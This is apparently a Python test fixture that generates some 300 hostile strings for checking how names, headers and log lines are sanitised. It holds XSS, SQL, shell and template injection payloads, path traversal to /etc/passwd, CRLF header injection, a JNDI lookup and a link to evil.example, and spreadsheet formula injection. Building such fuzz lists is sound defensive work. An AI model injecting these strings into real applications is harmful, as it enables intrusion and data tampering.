"""Three hundred texts that somebody means badly: for names, descriptions, headers and lines of logs."""

_TAGS = (
    "script", "img src=x", "svg", "iframe", "body", "input autofocus", "video src=x", "audio src=x", "details open",
    "marquee", "object data=x", "embed src=x", "a href=x", "form action=x", "math", "style", "link rel=x",
    "base href=x",
    "meta http-equiv=refresh content=0", "button", "select", "textarea", "table", "tr", "td", "isindex", "keygen",
    "bgsound",
)  # fmt: skip
_EVENTS = ("onload", "onerror", "onfocus", "onmouseover", "ontoggle", "onstart", "onclick", "onanimationend")
_BREAKS = ('"', "'", '">', "'>", "</td>", "</tr></table>", "</title>", "</style>", "</textarea>", "-->", "]]>", "`")
_PLAIN = (
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\t>alert(1)</script>", "<<script>alert(1)//<</script>",
    "&lt;script&gt;", "&#60;script&#62;", "&#x3c;script&#x3e;", "%3Cscript%3E", "\\x3cscript\\x3e",
    "\\u003cscript\\u003e",
    "+ADw-script+AD4-", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\nscript:alert(1)", " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:x", "//evil.example/x.js", "{{7*7}}", "${7*7}", "#{7*7}",
    "{% raw %}", "<%= 7*7 %>", "{0}", "%s%s%s%n", "%d", "{event}", "{log_format}", "${jndi:ldap://evil.example/x}",
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "|calc", "%0a=1", "\t=1+1", "=HYPERLINK(\"http://x\")",
    "'; DROP TABLE slices; --", "1 OR 1=1", "' UNION SELECT 1 --", "\\'; --", "x'||'y", "/*", "--", ";",
    "../../etc/passwd", "..%2f..%2fetc", "/etc/passwd\0.html", "C:\\x", "file:///etc/passwd", "~", "$(id)", "`id`",
    "; id",
    "| id", "& id", "&& id", "> /tmp/x", "a\r\nSet-Cookie: b=c", "a\nLocation: http://evil.example", "a\rb",
    "\r\n\r\n<b>",
    "%0d%0aX: y", "\u560d\u560aX: y", "a" * 65536, "<" * 5000, "&" * 5000, "\"" * 5000, "\u0301" * 3000, "W" * 500,
    "\U0001f4a9" * 900, "null", "None", "undefined", "NaN", "true", "[object Object]", "{}", "[]", "{\"a\":", "\\",
    "\\\\",
    "\"", "'", "", " ", "\u00a0", "\u3000", "\u2028line", "\u2029line", "\x85next", "\x0bvt", "\x0cff",
    "\x1b[2J", "\x1b[31mred", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x07x", "\x9b31m", "\x1bP$qm\x1b\\",
    "\u202egnp.exe", "\u202dabc", "\u2066abc\u2069", "\u200eabc", "\u200fabc", "zero\u200bwidth", "a\u200cb",
    "a\u200db",
    "\ufeffbom", "a\u2060b", "a\u00adb", "\u180eabc", "\u034fabc", "\U000e0041tag", "\ud800", "\udfff", "\ufffe",
    "\uffff",
    "\u0430\u0440\u0440le", "\u212a", "\uff1cscript\uff1e", "\ufb00", "\u1e9e", "I\u0307", "\u0131",
    "xn--80ak6aa92e.com", "[::1]", "127.0.0.1#", "http://user:pass@evil.example", "mailto:x@y?bcc=z", "tel:1",
    "princeton_codeen\u200b", "princeton_codeen ", "PRINCETON_CODEEN", "princeton_codeen\0", "(unknown)", "(node)",
)  # fmt: skip


def _all() -> tuple[str, ...]:
    found = list(_PLAIN)
    found += [f"<{tag} {_EVENTS[n % len(_EVENTS)]}=alert({n})>" for n, tag in enumerate(_TAGS)]
    found += [f"{each}<img src=x onerror=alert(1)>" for each in _BREAKS]
    found += [f"{each} onmouseover=alert(1) x={each}" for each in _BREAKS]
    found += [f"c{number:02x}{chr(number)}control" for number in (*range(32), *range(0x7F, 0xA0))]
    found += [f"<{number}>" for number in range(len(dict.fromkeys(found)), 300)]
    return tuple(dict.fromkeys(found))


TEXTS = _all()
